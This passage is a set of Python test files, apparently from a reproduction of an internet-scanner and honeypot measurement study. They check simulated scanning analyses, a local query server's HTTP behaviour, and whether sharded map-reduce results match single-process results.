    def test_cloud_and_edu_see_same_scanners(self, overlap_rows):
        for port in (23, 80, 8080):
            assert overlap_rows[port].cloud_edu_pct > 75.0, f"port {port}"
        # Port 22's overlap is depressed by the Tsunami botnet, whose
        # members hammer one Hurricane Electric IP and nothing else.
        assert overlap_rows[22].cloud_edu_pct > 55.0

    def test_ssh_attackers_almost_never_in_telescope(self, dataset):
        rows = {row.port: row for row in attacker_overlap(dataset)}
        assert rows[22].telescope_cloud_pct < 15.0
        assert rows[2222].telescope_cloud_pct < 15.0
        assert rows[23].telescope_cloud_pct > 80.0
        assert rows[80].telescope_cloud_pct > 70.0

    def test_different_ases_target_telescope(self, dataset):
        cells = {
            (cell.comparison, cell.slice_name): cell
            for cell in telescope_as_report(dataset)
        }
        ssh_cloud = cells[("telescope-cloud", "ssh22")]
        assert ssh_cloud.num_different == ssh_cloud.num_sites
        assert ssh_cloud.avg_phi > 0.3


class TestNeighborhoods:
    """Section 4.1, Table 2."""

    @pytest.fixture(scope="class")
    def report(self, dataset):
        return neighborhood_report(dataset)

    def test_many_neighborhoods_differ_in_ases(self, report):
        cell = report.cell("ssh22", "as")
        assert cell.percent_different > 25.0
        assert cell.avg_phi > 0.1

    def test_telnet_neighborhoods_differ(self, report):
        assert report.cell("telnet23", "as").percent_different > 20.0

    def test_http_payload_neighborhood_differences_exist(self, report):
        """Paper: payload distributions differ across neighborhoods for
        both HTTP/80 (15%) and HTTP/All-Ports (77%).  At simulation scale
        the two slices track each other closely (see EXPERIMENTS.md), so
        we assert presence and comparable magnitude rather than ordering.
        """
        all_ports = report.cell("http_all", "payload")
        port80 = report.cell("http80", "payload")
        assert all_ports.percent_different > 5.0
        assert port80.percent_different > 5.0
        assert all_ports.percent_different >= port80.percent_different - 15.0

    def test_fraction_malicious_effects_small(self, report):
        """Significant fraction-malicious differences have small phi
        relative to AS differences (paper: 0.12 vs 0.31-0.43)."""
        as_phi = report.cell("ssh22", "as").avg_phi
        frac_cell = report.cell("ssh22", "fraction_malicious")
        if frac_cell.num_different:
            assert frac_cell.avg_phi < as_phi


class TestSearchEngineLeaks:
    """Section 4.3, Table 3."""

    @pytest.fixture(scope="class")
    def rows(self, dataset):
        report = leak_report(dataset)
        return {(row.service, row.group, row.traffic): row for row in report}

    def test_leaked_http_attracts_more_traffic(self, rows):
        assert rows[("HTTP/80", "censys", "all")].fold > 1.5
        assert rows[("HTTP/80", "shodan", "all")].fold > 2.0

    def test_previously_leaked_still_targeted(self, rows):
        assert rows[("HTTP/80", "previously", "all")].fold > 1.5
        assert rows[("HTTP/80", "previously", "malicious")].fold > 3.0

    def test_ssh_attackers_prefer_shodan(self, rows):
        shodan = rows[("SSH/22", "shodan", "malicious")].fold
        censys = rows[("SSH/22", "censys", "malicious")].fold
        assert shodan > censys

    def test_http_attackers_large_shodan_increase(self, rows):
        assert rows[("HTTP/80", "shodan", "all")].fold > rows[("HTTP/80", "censys", "all")].fold

    def test_spikes_on_leaked_services(self, rows):
        row = rows[("HTTP/80", "shodan", "all")]
        assert row.leaked_spikes >= row.control_spikes
        assert row.distribution_differs

    def test_more_unique_passwords_on_leaked(self, dataset):
        averages = unique_credentials_per_group(dataset, port=22)
        assert averages["shodan"] > 1.5 * averages["control"]
        assert averages["censys"] > 1.5 * averages["control"]


class TestUnexpectedProtocols:
    """Section 6, Table 11."""

    @pytest.fixture(scope="class")
    def rows(self, dataset):
        return {row.port: row for row in protocol_breakdown(dataset)}

    def test_substantial_non_http_share(self, rows):
        for port in (80, 8080):
            assert 8.0 < rows[port].unexpected_pct < 35.0

    def test_tls_dominates_unexpected(self, rows):
        mix = rows[80].unexpected_protocols
        assert mix.get("tls", 0) == max(mix.values())

    def test_at_least_half_of_unexpected_malicious(self, rows):
        assert rows[80].unexpected_malicious_pct >= 45.0

    def test_multiple_unexpected_protocols_observed(self, rows):
        assert len(rows[80].unexpected_protocols) >= 4


class TestMethodologyNumbers:
    """Section 3.2."""

    @pytest.fixture(scope="class")
    def numbers(self, dataset):
        return methodology_numbers(dataset)

    def test_substantial_non_auth_fractions(self, numbers):
        assert 15.0 < numbers.telnet_non_auth_pct < 60.0
        assert 10.0 < numbers.ssh_non_auth_pct < 50.0

    def test_most_http_is_not_exploit(self, numbers):
        assert numbers.http80_non_exploit_pct > 55.0

    def test_distinct_payloads_mostly_benign(self, numbers):
        assert numbers.distinct_http_payloads_malicious_pct < 20.0


class TestAddressStructure:
    """Section 4.2, Figure 1."""

    def test_port445_avoids_255_octets(self, small_context):
        profile = structure_profile(small_context.result.telescope, 445)
        assert profile.any_255_ratio is not None
        assert profile.avoidance_factor_any_255() > 3.0

    def test_port7574_avoidance_stronger_than_445(self, small_context):
        p445 = structure_profile(small_context.result.telescope, 445)
        p7574 = structure_profile(small_context.result.telescope, 7574)
        assert p7574.avoidance_factor_any_255() > p445.avoidance_factor_any_255()

    def test_port80_mild_255_avoidance(self, small_context):
        profile = structure_profile(small_context.result.telescope, 80)
        assert profile.any_255_ratio < 1.0

    def test_port22_slash16_first_preference(self, small_context):
        profile = structure_profile(small_context.result.telescope, 22)
        assert profile.slash16_first_ratio > 1.0

    def test_port17128_latching(self, small_context):
        profile = structure_profile(small_context.result.telescope, 17128)
        assert profile.top_target_concentration > 10.0


class TestHurricaneLatching:
    """Section 4.2: Tsunami hammers one IP in the HE /24."""

    def test_single_target_dominance(self, dataset):
        from collections import Counter

        per_ip = Counter()
        for vantage in dataset.vantages_in(network="hurricane"):
            for event in dataset.events_for(vantage.vantage_id):
                if event.dst_port == 22:
                    per_ip[event.dst_ip] += 1
        counts = sorted(per_ip.values(), reverse=True)
        assert counts[0] > 10 * np.median(counts)


class TestVantageSummary:
    """Table 1 sanity."""

    def test_every_network_sees_traffic(self, dataset):
        rows = vantage_summary(dataset)
        assert all(row.unique_scan_ips > 0 for row in rows)
        telescope_row = next(row for row in rows if row.collection == "Telescope")
        assert telescope_row.num_vantage_ips == 8 * 256
