"""The repro.serve query layer: schema contracts, the HTTP wire, and
bit-for-bit parity between served answers and the batch analyses.

The parity oracle is an *independent* in-process simulation at the same
fixed seed (``get_context``): the sharded run directory the server
reads was produced by the orchestrator, so agreement here exercises the
whole chain — shard spill → lazy merge → serve — against values computed
without any serve code in the loop.
"""

from __future__ import annotations

import asyncio
import json
import threading

import numpy as np
import pytest

from repro.experiments import ExperimentConfig, get_context
from repro.experiments.context import _WINDOWS
from repro.runner import orchestrate
from repro.serve import (
    QueryServer,
    RunDirBackend,
    SchemaError,
    ServeOptions,
    run_load,
)
from repro.serve.backends import build_live_pipeline
from repro.serve.schema import (
    Characteristic,
    IpQuery,
    SimulationPayload,
    TopQuery,
    parse_ip,
    validate_simulation_config,
)
from repro.stats.topk import top_k, union_table
from repro.stats.contingency import chi_square_test
from repro.stats.volume import hourly_volumes

#: Same fixed-seed tiny-but-real config the watch tests pin.
TINY = ExperimentConfig(year=2021, scale=0.05, telescope_slash24s=4, seed=5)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    out = tmp_path_factory.mktemp("serve") / "run"
    run = orchestrate(TINY, workers=1, out_dir=out, num_shards=2, quiet=True)
    assert not run.partial
    return out


@pytest.fixture(scope="module")
def batch():
    """The independent batch truth (in-process, no shards, no serving)."""
    return get_context(TINY)


# ---------------------------------------------------------------------------
# a minimal keep-alive test client
# ---------------------------------------------------------------------------


class _Client:
    def __init__(self, port: int) -> None:
        self.port = port

    async def __aenter__(self) -> "_Client":
        self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        return self

    async def __aexit__(self, *exc_info) -> None:
        self.writer.close()
        try:
            await self.writer.wait_closed()
        except (ConnectionResetError, BrokenPipeError):
            pass

    async def get(self, path: str, headers: dict | None = None):
        """One request on the persistent connection.

        Returns (status, response-headers, parsed-JSON-or-None).
        """
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        self.writer.write(f"GET {path} HTTP/1.1\r\nHost: t\r\n{extra}\r\n".encode())
        await self.writer.drain()
        status_line = await self.reader.readline()
        status = int(status_line.split()[1])
        response_headers: dict[str, str] = {}
        while True:
            line = await self.reader.readline()
            if line in (b"\r\n", b"\n"):
                break
            name, _, value = line.partition(b":")
            response_headers[name.strip().lower().decode()] = value.strip().decode()
        length = int(response_headers.get("content-length", "0"))
        body = await self.reader.readexactly(length) if length else b""
        return status, response_headers, json.loads(body) if body else None


async def _one_shot(port: int, path: str, headers: dict | None = None):
    async with _Client(port) as client:
        return await client.get(path, headers)


# ---------------------------------------------------------------------------
# schema contracts
# ---------------------------------------------------------------------------


class TestSchema:
    def test_parse_ip_forms(self):
        assert parse_ip("10.0.0.1") == (10 << 24) + 1
        assert parse_ip("167772161") == (10 << 24) + 1
        for bad in ["", "10.0.0", "10.0.0.0.1", "999.0.0.1", "a.b.c.d",
                    str(1 << 32)]:
            with pytest.raises(SchemaError):
                parse_ip(bad)

    def test_top_query_parses_with_default_k(self):
        query = TopQuery.parse({"vantage": "gn-aws-AF-ZA-0", "characteristic": "as"})
        assert query.k == 3
        assert query.characteristic is Characteristic.AS

    def test_unknown_parameter_rejected(self):
        with pytest.raises(SchemaError) as info:
            TopQuery.parse({"vantage": "v", "characteristic": "as", "kk": "3"})
        assert info.value.errors[0]["field"] == "kk"
        assert info.value.errors[0]["message"] == "unexpected parameter"

    def test_out_of_range_k_rejected(self):
        with pytest.raises(SchemaError) as info:
            TopQuery.parse({"vantage": "v", "characteristic": "as", "k": "65"})
        assert "out of range" in info.value.errors[0]["message"]

    def test_error_list_accumulates_every_violation(self):
        with pytest.raises(SchemaError) as info:
            TopQuery.parse({"characteristic": "shoe-size", "k": "0"})
        fields = {item["field"] for item in info.value.errors}
        assert fields == {"vantage", "characteristic", "k"}

    def test_ip_query_structured_error(self):
        with pytest.raises(SchemaError) as info:
            IpQuery.parse({"ip": "300.1.2.3"})
        assert info.value.as_dict()["error"] == "validation"

    def test_simulation_payload_collects_all_violations(self):
        errors = SimulationPayload(year=1999, scale=0.0,
                                   telescope_slash24s=0, seed=-1).validate()
        assert {item["field"] for item in errors} == {
            "year", "scale", "telescope_slash24s", "seed"
        }
        with pytest.raises(SchemaError):
            SimulationPayload(year=1999).to_config()

    def test_simulation_contract_builds_experiment_config(self):
        config = validate_simulation_config(
            year=2021, scale=0.05, telescope_slash24s=4, seed=5
        )
        assert config == TINY

    def test_cli_rejects_bad_simulation_config(self, capsys):
        from repro.cli import main

        assert main(["watch", "--simulate", "--scale", "-2"]) == 2
        err = capsys.readouterr().err
        assert "scale" in err and "must be in" in err


# ---------------------------------------------------------------------------
# run-dir backend: bit-for-bit parity with the batch analyses
# ---------------------------------------------------------------------------


def _batch_counter(table, characteristic: str):
    """Batch category counts, straight off the independent dataset."""
    from collections import Counter

    from repro.scanners.payloads import strip_ephemeral_headers

    counts: Counter = Counter()
    if characteristic == "as":
        values, occurrences = np.unique(table.src_asn, return_counts=True)
        counts.update(dict(zip((int(v) for v in values),
                               (int(c) for c in occurrences))))
    elif characteristic == "payload":
        for payload in table.payloads:
            if payload:
                counts[strip_ephemeral_headers(payload)] += 1
    else:
        slot = 0 if characteristic == "username" else 1
        for pairs in table.credentials:
            for pair in pairs:
                counts[pair[slot]] += 1
    return counts


class TestRunDirParity:
    def test_concurrent_clients_match_batch_bit_for_bit(self, run_dir, batch):
        backend = RunDirBackend(run_dir)
        tables = batch.dataset.tables
        hours = _WINDOWS[TINY.year].hours
        busiest = max(tables, key=lambda v: len(tables[v]))
        oracle = batch.dataset.reputation_oracle()
        malicious_ip = min(oracle.malicious_ips())

        # Expected values, computed with zero serve code in the loop.
        table = tables[busiest]
        expected = {}
        for characteristic in ("as", "username", "password", "payload"):
            counts = _batch_counter(table, characteristic)
            expected[f"/top?vantage={busiest}&characteristic={characteristic}&k=3"] = [
                (float(counts[category])) for category in top_k(counts, 3)
            ]
        expected_series = [
            float(v) for v in hourly_volumes(table.timestamps, hours)
        ]
        expected_cardinality = float(len(np.unique(table.src_ip)))
        group_counts = {
            vantage_id: _batch_counter(tables[vantage_id], "username")
            for vantage_id in sorted(tables)
        }
        contingency, _groups, _categories = union_table(group_counts, 3)
        expected_chi = chi_square_test(contingency)
        expected_events = sum(len(t) for t in tables.values())

        urls = list(expected) + [
            f"/volumes?vantage={busiest}",
            f"/cardinality?vantage={busiest}",
            "/compare?characteristic=username&k=3",
            f"/ip?ip={malicious_ip}",
            "/healthz",
        ]

        async def _scenario():
            async with QueryServer(backend, ServeOptions()) as server:
                async def _one_client(offset: int):
                    results = {}
                    async with _Client(server.port) as client:
                        for round_trip in range(2):  # keep-alive reuse
                            for position in range(len(urls)):
                                url = urls[(position + offset) % len(urls)]
                                status, _headers, body = await client.get(url)
                                assert status == 200
                                results[url] = body
                    return results

                return await asyncio.gather(*(_one_client(i) for i in range(6)))

        all_results = asyncio.run(_scenario())
        assert len(all_results) == 6
        first = all_results[0]
        for other in all_results[1:]:  # every client saw identical bytes
            assert other == first

        for url, counts in expected.items():
            body = first[url]
            assert body["exact"] is True
            assert [c["count"] for c in body["categories"]] == counts
        volumes = first[f"/volumes?vantage={busiest}"]
        assert volumes["series"] == expected_series
        cardinality = first[f"/cardinality?vantage={busiest}"]
        assert cardinality["distinct_sources"][busiest] == expected_cardinality
        compare = first["/compare?characteristic=username&k=3"]
        assert compare["chi_square"]["statistic"] == float(expected_chi.statistic)
        assert compare["chi_square"]["p_value"] == float(expected_chi.p_value)
        assert compare["chi_square"]["phi"] == float(expected_chi.phi)
        assert compare["chi_square"]["dof"] == int(expected_chi.dof)
        classified = first[f"/ip?ip={malicious_ip}"]
        assert classified["reputation"] == "malicious"
        assert classified["seen"] is True
        assert classified["asn"] == int(oracle._seen_ips[malicious_ip])
        assert first["/healthz"]["events"] == expected_events

    def test_alarms_match_streaming_leak_alarm_on_batch_tables(self, run_dir, batch):
        from repro.stream.windows import StreamingLeakAlarm

        backend = RunDirBackend(run_dir)
        hours = _WINDOWS[TINY.year].hours
        alarm = StreamingLeakAlarm(batch.deployment.leak_experiment, hours)
        watermark = 0.0
        for vantage_id in sorted(batch.dataset.tables):
            table = batch.dataset.tables[vantage_id]
            alarm.observe(table.dst_ip, table.dst_port,
                          table.src_asn, table.timestamps)
            if len(table):
                watermark = max(watermark, float(table.timestamps.max()))
        alarm.windows.watermark = max(alarm.windows.watermark, watermark)
        expected = alarm.evaluate(None)
        assert expected, "fixture must produce at least one alarm row"

        body = backend.handle("/alarms", {})
        assert body["enabled"] is True
        assert len(body["alarms"]) == len(expected)
        for got, want in zip(body["alarms"], expected):
            assert got["service"] == want.service
            assert got["group"] == want.group
            assert got["fold"] == float(want.fold)
            assert got["mwu_p"] == float(want.mwu_p)
            assert got["ks_p"] == float(want.ks_p)
            assert got["stochastically_greater"] == bool(want.stochastically_greater)

    def test_unknown_run_dir_rejected(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            RunDirBackend(tmp_path / "nope")


# ---------------------------------------------------------------------------
# the wire: structured 400s, 404/405, ETag/304, caching
# ---------------------------------------------------------------------------


class TestWire:
    @pytest.fixture(scope="class")
    def server_port(self, run_dir):
        backend = RunDirBackend(run_dir)
        loop = asyncio.new_event_loop()
        server = QueryServer(backend, ServeOptions())
        loop.run_until_complete(server.start())
        thread = threading.Thread(target=loop.run_forever, daemon=True)
        thread.start()
        yield server.port, server
        loop.call_soon_threadsafe(loop.stop)
        thread.join(timeout=5)
        loop.close()

    def _get(self, port: int, path: str, headers: dict | None = None):
        return asyncio.run(_one_shot(port, path, headers))

    def test_bad_ip_is_structured_400(self, server_port):
        port, _server = server_port
        status, _headers, body = self._get(port, "/ip?ip=999.1.2.3")
        assert status == 400
        assert body["error"] == "validation"
        assert body["errors"][0]["field"] == "ip"

    def test_unknown_vantage_is_structured_400(self, server_port):
        port, _server = server_port
        status, _headers, body = self._get(
            port, "/top?vantage=gn-mars-XX-0&characteristic=as"
        )
        assert status == 400
        assert body["errors"][0]["message"] == "unknown vantage"

    def test_out_of_range_k_is_structured_400(self, server_port):
        port, _server = server_port
        status, _headers, body = self._get(
            port, "/compare?characteristic=as&k=4096"
        )
        assert status == 400
        assert body["errors"][0]["field"] == "k"

    def test_unknown_path_404_and_method_405(self, server_port):
        port, _server = server_port
        status, _headers, body = self._get(port, "/telemetry")
        assert status == 404 and body["error"] == "not found"

        async def _post():
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"POST /healthz HTTP/1.1\r\nHost: t\r\n\r\n")
            await writer.drain()
            line = await reader.readline()
            writer.close()
            return int(line.split()[1])

        assert asyncio.run(_post()) == 405

    def test_etag_round_trip_yields_304(self, server_port):
        port, server = server_port
        status, headers, body = self._get(port, "/vantages")
        assert status == 200 and body is not None
        etag = headers["etag"]
        hits_before = server.stats.cache_hits
        status, headers, body = self._get(port, "/vantages",
                                          {"If-None-Match": etag})
        assert status == 304
        assert body is None
        status, _headers, _body = self._get(port, "/vantages")
        assert status == 200
        assert server.stats.cache_hits > hits_before
        assert server.stats.not_modified >= 1

    def test_duplicate_parameter_rejected(self, server_port):
        port, _server = server_port
        status, _headers, body = self._get(port, "/cardinality?vantage=a&vantage=b")
        assert status == 400
        assert body["errors"][0]["message"] == "duplicate parameter"


# ---------------------------------------------------------------------------
# live backend: queries during ingest, zero drops
# ---------------------------------------------------------------------------


class TestLiveBackend:
    def test_queries_during_ingest_cause_zero_drops(self, batch):
        from repro.deployment.fleet import build_full_deployment
        from repro.scanners.population import PopulationConfig, build_population
        from repro.sim.engine import SimulationConfig, run_simulation
        from repro.sim.rng import RngHub

        # A fresh deployment: the cached context's must not be re-simulated.
        deployment = build_full_deployment(
            RngHub(TINY.seed), num_telescope_slash24s=TINY.telescope_slash24s
        )
        bus, analyzer, tracker, backend = build_live_pipeline(
            _WINDOWS[TINY.year].hours,
            leak_experiment=deployment.leak_experiment,
        )
        population = build_population(
            PopulationConfig(year=TINY.year, scale=TINY.scale)
        )

        async def _scenario():
            async with QueryServer(backend, ServeOptions()) as server:
                ingest = threading.Thread(
                    target=lambda: (
                        run_simulation(
                            deployment,
                            population,
                            SimulationConfig(seed=TINY.seed,
                                             window=_WINDOWS[TINY.year]),
                            tap=bus.table_tap(),
                        ),
                        bus.close(),
                    ),
                    daemon=True,
                )
                ingest.start()
                queries = 0
                while True:
                    report = await run_load(
                        "127.0.0.1", server.port,
                        ["/healthz", "/vantages", "/stats", "/cardinality"],
                        connections=8, duration_seconds=0.3,
                    )
                    queries += report.requests
                    assert report.errors == 0
                    if not ingest.is_alive():
                        break
                ingest.join()
                return queries

        queries = asyncio.run(_scenario())
        assert queries > 0
        # The acceptance bar: live-mode queries during ingest cause zero
        # stream drops at the default queue size.
        assert bus.stats.dropped_events == 0
        assert bus.stats.dropped_chunks == 0
        assert analyzer.events_consumed == bus.stats.published_events
        assert analyzer.events_consumed == batch.result.total_events()

    def test_live_answers_are_labeled_estimates(self, batch):
        from repro.stream.watch import stream_table

        bus, analyzer, tracker, backend = build_live_pipeline(
            _WINDOWS[TINY.year].hours
        )
        tables = batch.dataset.tables
        busiest = max(tables, key=lambda v: len(tables[v]))
        stream_table(bus, tables[busiest], 1024)
        bus.close()

        body = backend.handle(
            "/top", {"vantage": busiest, "characteristic": "as", "k": "3"}
        )
        assert body["exact"] is False
        assert body["error_bound"] >= 0.0
        assert len(body["categories"]) == 3
        stats = backend.handle("/stats", {})
        assert stats["bus"]["dropped_events"] == 0
        assert stats["reputation"]["tracked_ips"] == len(tracker)

    def test_tracker_matches_batch_reputation_for_malicious_ips(self, batch):
        from repro.stream.watch import stream_table

        bus, _analyzer, tracker, backend = build_live_pipeline(
            _WINDOWS[TINY.year].hours
        )
        for vantage_id in sorted(batch.dataset.tables):
            stream_table(bus, batch.dataset.tables[vantage_id], 4096)
        bus.close()

        oracle = batch.dataset.reputation_oracle()
        sample = sorted(oracle.malicious_ips())[:25]
        for ip in sample:
            answer = backend.handle("/ip", {"ip": str(ip)})
            assert answer["seen"] is True
            assert answer["reputation"] == "malicious"

    def test_tracker_capacity_is_bounded(self):
        from repro.io.table import EventTable
        from repro.net.packets import Transport
        from repro.serve.backends import ReputationTracker
        from repro.stream.bus import StreamBus
        from repro.stream.watch import stream_table

        tracker = ReputationTracker(capacity=10)
        bus = StreamBus()
        bus.subscribe(tracker)
        table = EventTable("t", "aws", None, "US-CA")
        # 50 distinct benign sources through a capacity-10 tracker.
        count = 50
        table.append_batch(
            timestamps=np.linspace(0.0, 1.0, count),
            src_ips=np.arange(1, count + 1, dtype=np.uint32),
            src_asns=np.full(count, 64500, dtype=np.uint32),
            dst_ips=np.full(count, 1, dtype=np.uint32),
            dst_port=80,
            transport=Transport.TCP,
            handshake=True,
            payloads=b"",
        )
        stream_table(bus, table, 16)
        bus.close()
        assert len(tracker) == 10
        assert tracker.evicted == 40


# ---------------------------------------------------------------------------
# graceful drain
# ---------------------------------------------------------------------------


class TestDrain:
    def test_stop_drains_idle_keepalive_connections(self, run_dir):
        backend = RunDirBackend(run_dir)

        async def _scenario():
            server = QueryServer(
                backend, ServeOptions(drain_timeout=0.5, read_timeout=30.0)
            )
            await server.start()
            client = _Client(server.port)
            await client.__aenter__()
            status, _headers, _body = await client.get("/healthz")
            assert status == 200
            # The connection now idles in keep-alive; stop() must not
            # hang for the full read timeout.
            loop = asyncio.get_running_loop()
            started = loop.time()
            await server.stop()
            elapsed = loop.time() - started
            assert elapsed < 5.0
            assert server.stats.active_connections == 0
            await client.__aexit__()

        asyncio.run(_scenario())

    def test_connections_beyond_cap_get_503(self, run_dir):
        backend = RunDirBackend(run_dir)

        async def _scenario():
            async with QueryServer(
                backend, ServeOptions(max_connections=2)
            ) as server:
                first = _Client(server.port)
                second = _Client(server.port)
                await first.__aenter__()
                await second.__aenter__()
                assert (await first.get("/healthz"))[0] == 200
                assert (await second.get("/healthz"))[0] == 200
                status, _headers, body = await _one_shot(server.port, "/healthz")
                assert status == 503
                assert body["error"] == "overloaded"
                await first.__aexit__()
                await second.__aexit__()
                assert server.stats.rejected_connections == 1

        asyncio.run(_scenario())
