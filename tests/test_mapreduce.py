"""Shard-wise map-reduce analyses == single-process analyses, exactly.

The orchestrator's lazy merge keeps per-shard memory-mapped views
alongside the merged (virtual) table, and the hot analyses fan out over
those views with mergeable partial aggregates.  These tests pin the
contract that matters: at a fixed seed, every ported analysis produces
*bit-identical* results whether it ran shard-wise over mmap'd spills or
in one pass over an in-process simulation — including after a partial
run is resumed.
"""

from __future__ import annotations

import shutil

import numpy as np
import pytest

from repro.analysis.overlap import scanner_overlap
from repro.analysis.ports import methodology_numbers, protocol_breakdown
from repro.analysis.summary import vantage_summary
from repro.analysis.timeseries import hourly_matrix
from repro.runner import orchestrate
from repro.runner.scheduler import cache_key, load_cached_value, store_cached_value

from tests.conftest import SMALL


@pytest.fixture(scope="module")
def sharded_run(tmp_path_factory):
    """One SMALL run split over three shards, merged lazily."""
    out_dir = tmp_path_factory.mktemp("mapreduce-run")
    return orchestrate(SMALL, workers=1, num_shards=3, out_dir=out_dir, quiet=True)


@pytest.fixture(scope="module")
def sharded_dataset(sharded_run):
    dataset = sharded_run.context.dataset
    assert dataset.shard_tables is not None and len(dataset.shard_tables) == 3
    return dataset


class TestShardWiseEqualsSingleProcess:
    def test_vantage_summary(self, dataset, sharded_dataset):
        assert vantage_summary(sharded_dataset) == vantage_summary(dataset)

    def test_scanner_overlap(self, dataset, sharded_dataset):
        assert scanner_overlap(sharded_dataset) == scanner_overlap(dataset)

    def test_methodology_numbers(self, dataset, sharded_dataset):
        assert methodology_numbers(sharded_dataset) == methodology_numbers(dataset)

    def test_protocol_breakdown(self, dataset, sharded_dataset):
        assert protocol_breakdown(sharded_dataset) == protocol_breakdown(dataset)

    def test_hourly_matrix(self, dataset, sharded_dataset):
        vantage_ids = sorted(dataset.tables)
        np.testing.assert_array_equal(
            hourly_matrix(sharded_dataset, vantage_ids),
            hourly_matrix(dataset, vantage_ids),
        )

    def test_merged_columns_are_memory_mapped(self, sharded_dataset):
        """The lazy merge serves shard parts as mmaps, not copies."""
        table = next(
            table for table in sharded_dataset.tables.values() if table.parts
        )
        _pos, part = table.parts[0]
        assert isinstance(part.timestamps, np.memmap)


class TestContingencyShardWise:
    """The contingency engine's partial matrices merge additively across
    shards: a 3-shard build must equal the single-shard build bit for
    bit, and so must every analysis drawing from it."""

    def test_engine_matrices_merge_exactly(self, dataset, sharded_dataset):
        single = dataset.contingency()
        sharded = sharded_dataset.contingency()
        assert single.vantage_ids == sharded.vantage_ids
        assert single.counts.keys() == sharded.counts.keys()
        for key in single.counts:
            assert single.values[key[1]] == sharded.values[key[1]]
            np.testing.assert_array_equal(single.counts[key], sharded.counts[key])
        for slice_key in single.events:
            np.testing.assert_array_equal(
                single.events[slice_key], sharded.events[slice_key]
            )
            np.testing.assert_array_equal(
                single.malicious[slice_key], sharded.malicious[slice_key]
            )
        np.testing.assert_array_equal(single.cred_events, sharded.cred_events)

    def test_source_aggregates_merge_exactly(self, dataset, sharded_dataset):
        single = dataset.source_aggregates()
        sharded = sharded_dataset.source_aggregates()
        np.testing.assert_array_equal(single.sources, sharded.sources)
        np.testing.assert_array_equal(single.first_asn, sharded.first_asn)
        np.testing.assert_array_equal(single.event_count, sharded.event_count)
        np.testing.assert_array_equal(single.malicious, sharded.malicious)
        np.testing.assert_array_equal(single.first_order, sharded.first_order)

    def test_neighborhood_report(self, dataset, sharded_dataset):
        from repro.analysis.neighborhoods import neighborhood_report

        assert neighborhood_report(sharded_dataset) == neighborhood_report(dataset)

    def test_geography(self, dataset, sharded_dataset):
        from repro.analysis.geography import geo_similarity, most_different_regions

        assert geo_similarity(sharded_dataset) == geo_similarity(dataset)
        assert most_different_regions(sharded_dataset) == most_different_regions(
            dataset
        )

    def test_networks(self, dataset, sharded_dataset):
        from repro.analysis.networks import network_type_report, telescope_as_report

        assert network_type_report(sharded_dataset) == network_type_report(dataset)
        assert telescope_as_report(sharded_dataset) == telescope_as_report(dataset)

    def test_tags_and_campaigns(self, dataset, sharded_dataset):
        from repro.analysis.campaigns import infer_campaigns
        from repro.analysis.tags import tag_sources

        single_tags = tag_sources(dataset)
        sharded_tags = tag_sources(sharded_dataset)
        assert sharded_tags == single_tags
        assert list(sharded_tags) == list(single_tags)
        assert infer_campaigns(sharded_dataset, min_size=2) == infer_campaigns(
            dataset, min_size=2
        )

    def test_commands(self, dataset, sharded_dataset):
        from repro.analysis.commands import command_summary

        assert command_summary(sharded_dataset) == command_summary(dataset)

    def test_leak(self, dataset, sharded_dataset):
        from repro.analysis.leak import leak_report, unique_credentials_per_group

        assert leak_report(sharded_dataset) == leak_report(dataset)
        assert unique_credentials_per_group(
            sharded_dataset
        ) == unique_credentials_per_group(dataset)


class TestResumeWithLazyMerge:
    def test_resumed_run_matches_uninterrupted_run(self, sharded_run, tmp_path):
        """Losing a shard and resuming reproduces the analyses exactly."""
        out_dir = tmp_path / "resumed"
        first = orchestrate(SMALL, workers=1, num_shards=3, out_dir=out_dir, quiet=True)
        assert first.dataset_digest == sharded_run.dataset_digest

        shutil.rmtree(out_dir / "shard-0001")
        resumed = orchestrate(
            SMALL, workers=1, num_shards=3, out_dir=out_dir, resume=True, quiet=True
        )
        assert resumed.stats.skipped == 2 and resumed.stats.simulated == 1
        assert resumed.dataset_digest == sharded_run.dataset_digest

        uninterrupted = sharded_run.context.dataset
        dataset = resumed.context.dataset
        assert vantage_summary(dataset) == vantage_summary(uninterrupted)
        assert scanner_overlap(dataset) == scanner_overlap(uninterrupted)
        assert methodology_numbers(dataset) == methodology_numbers(uninterrupted)
        assert protocol_breakdown(dataset) == protocol_breakdown(uninterrupted)


class TestX3Orchestrated:
    def test_orchestrated_years_match_serial_build_then_cache(
        self, small_context, small_context_2020, small_context_2022,
        tmp_path, monkeypatch,
    ):
        """X3's orchestrated 2020/2022 builds equal the serial builds,
        and a repeat invocation is served from the on-disk metrics cache
        without orchestrating at all."""
        from repro.experiments import ext_temporal_stability as x3
        from repro.experiments.context import _CACHE

        expected = {
            2020: x3._headline_metrics(small_context_2020.dataset),
            2021: x3._headline_metrics(small_context.dataset),
            2022: x3._headline_metrics(small_context_2022.dataset),
        }
        monkeypatch.setenv(x3.RUN_CACHE_ENV, str(tmp_path))
        # Evict the serial 2020/2022 contexts so X3 must orchestrate
        # (monkeypatch restores them afterwards).
        monkeypatch.delitem(_CACHE, small_context_2020.config)
        monkeypatch.delitem(_CACHE, small_context_2022.config)

        output = x3.run(small_context)
        assert output.data == expected
        assert (x3._run_cache_dir(small_context_2020.config) / "run.json").exists()

        # Second pass: no memo, orchestrate forbidden — only the disk
        # cache can satisfy it.
        monkeypatch.delitem(_CACHE, small_context_2020.config)
        monkeypatch.delitem(_CACHE, small_context_2022.config)

        def _forbidden(*args, **kwargs):
            raise AssertionError("orchestrate called despite warm metrics cache")

        monkeypatch.setattr("repro.runner.orchestrator.orchestrate", _forbidden)
        assert x3.run(small_context).data == expected


class TestValueCache:
    def test_roundtrip(self, tmp_path):
        key = cache_key("digest", "X3-metrics", {"year": 2020})
        store_cached_value(tmp_path, "X3-metrics", key, {"ssh": 41.5})
        assert load_cached_value(tmp_path, "X3-metrics", key) == {"ssh": 41.5}

    def test_miss_on_unknown_key(self, tmp_path):
        assert load_cached_value(tmp_path, "X3-metrics", cache_key("d", "e")) is None
        assert load_cached_value(None, "X3-metrics", "anything") is None

    def test_full_key_is_verified(self, tmp_path):
        """A colliding truncated file name cannot serve the wrong value."""
        key = cache_key("digest-a", "X3-metrics")
        store_cached_value(tmp_path, "X3-metrics", key, 1)
        stored = next(tmp_path.iterdir())
        other = cache_key("digest-b", "X3-metrics")
        stored.rename(tmp_path / f"X3-metrics-{other[:16]}.pkl")
